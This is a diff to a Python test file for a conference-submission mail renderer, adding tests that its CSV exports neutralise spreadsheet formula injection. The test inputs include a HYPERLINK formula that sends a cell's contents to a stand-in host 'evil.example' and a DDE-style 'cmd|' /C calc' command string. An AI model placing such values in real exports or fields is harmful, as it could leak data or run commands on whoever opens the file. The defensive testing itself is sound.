@@ -9,7 +9,16 @@ from datetime import UTC, datetime, timedelta
 
 from cfp.events import EventKind, NotificationEvent
 from cfp.formatcheck.models import Facts, Problem, Verdict
-from cfp.mail.render import CallInfo, MailRenderer, digest_sections, digest_title
+from cfp.mail.render import (
+    CallInfo,
+    DigestEntry,
+    DigestSection,
+    MailRenderer,
+    changes_csv,
+    digest_sections,
+    digest_title,
+    submissions_csv,
+)
 from cfp.model import Author, Submission, Version
 
 T0 = datetime(2017, 8, 30, 14, 0, tzinfo=UTC)
@@ -142,3 +151,34 @@ def test_digest_lists_each_change_on_its_own_line_and_moves_long_lists_to_csv() 
     [attachment] = mail.attachments
     rows = list(csv.reader(io.StringIO(attachment.data.decode())))
     assert rows[0] == ["section", "submission_id", "title", "change", "pdf_link"] and len(rows) == 32
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_kept_as_text() -> None:
+    for first in FORMULA_STARTS:
+        title = f'{first}HYPERLINK("https://evil.example/?"&A1, "Open")'
+        # Built without validation, which strips a leading tab or CR: the CSV must not rely on it.
+        author = Author.model_construct(name=f"{first}SUM(1+1)*cmd|' /C calc'!A0", email="ada@example.org")
+        record = submission(title="placeholder").model_copy(update={"title": title, "authors": [author]})
+        rows = list(
+            csv.reader(io.StringIO(submissions_csv([(record, [failed_version()])], CALL.window).decode()))
+        )
+        assert rows[1][1:3] == [f"'{title}", f"'{author.name}"], repr(first)
+        assert rows[1][6:8] == ["4", "3"]
+        section = DigestSection("Failed format checks", "failed check", "failed checks")
+        section.entries.append(DigestEntry(record.id, title, f"{first}1 reason", None))
+        rows = list(csv.reader(io.StringIO(changes_csv([section]).decode())))
+        assert rows[1] == ["Failed format checks", record.id, f"'{title}", f"'{first}1 reason", ""]
+
+
+def test_csv_cells_that_are_not_formulas_are_unchanged() -> None:
+    record = submission(title="Learned Index Structures: -5% latency, +3 = win @ scale")
+    rows = list(
+        csv.reader(io.StringIO(submissions_csv([(record, [failed_version()])], CALL.window).decode()))
+    )
+    assert rows[1][1:3] == [
+        "Learned Index Structures: -5% latency, +3 = win @ scale",
+        "Ada Lovelace; Émile Noether",
+    ]
